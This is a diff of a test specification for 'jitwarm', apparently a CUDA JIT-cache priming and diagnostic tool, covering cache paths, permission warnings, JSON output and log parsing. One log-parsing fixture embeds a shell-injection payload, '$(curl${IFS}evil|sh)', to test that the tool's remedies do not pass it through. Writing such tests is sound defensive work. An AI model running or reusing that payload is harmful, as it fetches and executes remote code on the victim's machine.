@@ -5,17 +5,14 @@ $ rm "$JITWARM_SYSROOT/.dockerenv"
 $ jitwarm prime --yes lib
 $ jitwarm doctor lib
 [good] All * modules of these files are in this cache for sm_*, driver *. A fresh process loaded them and *
-Note A fresh login lacks a setting (CUDA_CACHE_PATH).
-Remedy jitwarm env apply --path {work}/cache
+Note A fresh login lacks a setting (CUDA_CACHE_PATH):
+jitwarm env apply --path {work}/cache
 $ CUDA_CACHE_MAXSIZE=4GiB jitwarm doctor lib
 ? 1
 Seen CUDA_CACHE_MAXSIZE=4GiB (4 B, the driver reads no units); *
 [good] Answer All *
 To do *CUDA_CACHE_MAXSIZE=4294967295*
 For good jitwarm env apply --size 4GiB
-$ jitwarm doctor --json lib
-.proof.proven = true
-.container = false
 
 case linked: simulated_driver
 $ export SIMCUDA_GPUS='sm_90:NVIDIA H100:8G'; rm "$JITWARM_SYSROOT/.dockerenv"; for verb in prime verify doctor; do jitwarm $verb "$GEN/elf/rdc-and-linked.so"; done
@@ -26,11 +23,23 @@ Note The driver links 1 module *
 
 case warm-and-open: primed
 skip windows
-$ rm "$JITWARM_SYSROOT/.dockerenv"; chmod 777 cache; jitwarm doctor lib
+$ rm "$JITWARM_SYSROOT/.dockerenv"; jitwarm env apply --path "$PWD/cache"; jitwarm doctor lib
+Note A fresh login lacks a setting (CUDA_CACHE_PATH):
+grep -qs environment.d/jitwarm.conf *>>~/.profile
+$ chmod 777 cache; jitwarm doctor lib
 Note Another user can write to the cache, or replace it *
-Remedy chmod go-w {work}/cache
+chmod go-w {work}/cache
 $ jitwarm doctor --json lib
+.proof.proven = true
 .notes.0.remedy.command ~ "chmod go-w "
+
+case another-cache-was-primed: simulated_driver two_libraries
+skip windows
+$ rm "$JITWARM_SYSROOT/.dockerenv"; (unset CUDA_CACHE_PATH; "$JITWARM" prime -q --yes lib); jitwarm status; jitwarm doctor lib
+? 1
+Note This cache is not the one that was primed (CUDA_CACHE_PATH={work}/cache; what was primed is in */.nv/ComputeCache): unset *
+[bad] This cache is not the one that was primed.
+- jitwarm env apply
 
 case a-recorded-command: simulated_driver program
 skip windows
@@ -66,10 +75,10 @@ $ jitwarm prime --yes lib; jitwarm prime --check; jitwarm doctor
 To do jitwarm prime */b/lib/python3.11/site-packages
 $ rm -r cache; jitwarm doctor; jitwarm status; jitwarm prime --yes --background; jitwarm forget lib; jitwarm status
 To do jitwarm prime
-path 0 of 1 {work}/lib
+0 of 1 path {work}/lib
 [good] All 2 modules *
 [good] The only module *
-Remembered nothing for this cache; *
+Found in */fast
 
 case cold: simulated_driver two_libraries
 $ jitwarm doctor lib
@@ -77,10 +86,6 @@ $ jitwarm doctor lib
 [bad] Code of this software is not compiled for this GPU yet.
 To do jitwarm prime lib
 - Seen *
-$ jitwarm doctor --json lib
-? 1
-.result = "cold"
-.cause.id = "cold"
 $ jitwarm doctor -v --cache "$PWD/cache" lib
 ? 1
 Meaning The modules have no machine code for this GPU*
@@ -96,12 +101,6 @@ Estimate under 1 s with 1 worker, *
 When an operation first uses them: 1 of 1
 Estimate under 1 s with 1 worker, *
 When an operation first uses them: 1 of 1
-
-case a-pause-in-a-log:
-$ printf '%s\n' '2020-11-22 22:35:25.2: I tensorflow/x.cc:1] Adding visible gpu devices: 0' '2020-11-22 22:39:20.9: I tensorflow/x.cc:2] next' 'W x.cc:1] Relying on driver to perform ptx compilation.' >a.log; jitwarm doctor -v --log a.log
-? 1
-[bad] Line 1: waited 3 min 56 s, as when the driver compiles.
-Also Line 3: TensorFlow could not use ptxas, so the driver compiles*
 
 case an-error-in-a-log:
 $ printf '%s\n' "10:00:00 W Could not load dynamic library 'libcudart.so.11.0'; dlerror" '10:00:02 a' '10:04:02 RuntimeError: CUDA error: no kernel image is available for execution on the device' "ImportError: libcudnn.so.8: cannot open shared object file" >a.log
@@ -120,7 +119,6 @@ $ printf '%s\n' 'ImportError: libcu$(curl${IFS}evil|sh): cannot open shared obje
 /sbin/ldconfig -p | grep libcu
 $ jitwarm doctor --json --log a.log
 ? 1
-.result = "found"
 .errors.1.line = 3
 
 case a-log-without-any:
